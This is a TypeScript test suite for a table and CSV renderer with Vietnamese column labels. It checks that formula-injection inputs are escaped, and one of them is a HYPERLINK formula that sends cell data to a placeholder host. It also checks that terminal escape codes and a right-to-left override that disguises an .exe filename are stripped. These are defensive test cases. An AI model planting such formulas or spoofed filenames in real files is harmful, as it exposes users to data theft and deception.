import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { type Column, renderCsv, renderTable } from './table.ts';

type Row = { a: string; b: number | null };
const columns: Column<Row>[] = [
  { head: 'Đơn vị', value: (row) => row.a },
  { head: 'Số', value: (row) => row.b },
];

/** Reads CSV of RFC 4180. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)!.push(quoted === undefined ? plain! : quoted.replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

describe('rows', () => {
  test('a table lines its columns up, Vietnamese letters and combining marks included', () => {
    const table = renderTable(columns, [
      { a: 'xã Cẩm Lĩnh', b: 1 },
      { a: 'xa\u0303 Bàu', b: 22 },
    ]);
    const starts = table
      .trimEnd()
      .split('\n')
      .map((line) => line.normalize('NFC').search(/(Số|──$|1$|22$)/));
    expect(new Set(starts).size).toBe(1);
  });

  test('a long cell is cut, and the last column takes the room that is left', () => {
    const table = renderTable([...columns].reverse(), [{ a: 'x'.repeat(500), b: 1 }], 80);
    for (const line of table.split('\n')) expect(line.length).toBeLessThanOrEqual(80);
    expect(table).toContain('…');
  });

  test('CSV comes back as it went in, whatever the cells hold', () => {
    fc.assert(
      fc.property(fc.array(fc.record({ a: fc.string(), b: fc.option(fc.integer()) })), (rows) => {
        const csv = renderCsv(columns, rows);
        expect(csv.startsWith('\ufeff')).toBe(true);
        const back = parseCsv(csv.slice(1));
        const cells = (row: string[]) => row.map((cell) => cell.replace(/^'(?=[\t\r]|\s*[=+\-@])/, ''));
        expect(back.map(cells)).toEqual([['Đơn vị', 'Số'], ...rows.map((row) => cells([row.a, row.b === null ? '' : String(row.b)]))]);
      }),
    );
  });

  test.each([
    ['=HYPERLINK("http://x.example/?a="&A1,"Bấm")', true],
    ['- Đề nghị hỗ trợ', true],
    [' @SUM(A1)', true],
    ['+ 2 buôn chưa có sóng', true],
    ['-3,2%', false],
    ['+1.200', false],
    ['Xã Ea Kar = 2 buôn', false],
  ])('what Excel would run as a formula is text in CSV: %s', (text, guarded) => {
    const [, [cell]] = parseCsv(renderCsv(columns, [{ a: text, b: 1 }]).slice(1)) as [string[], string[]];
    expect(cell).toBe(guarded ? `'${text}` : text);
  });
});

test('what would move or colour a terminal, or turn the direction of writing, is not shown', () => {
  const names = ['bao \u001b[31mcao\u001b[0m.docx', '\u202excod.exe', 'xuống\ndòng.pdf'];
  const table = renderTable([{ head: 'Tệp', value: (name: string) => name }], names);
  expect(table.split('\n').slice(2)).toEqual(['bao [31mcao[0m.docx', 'xcod.exe', 'xuống dòng.pdf', '']);
});
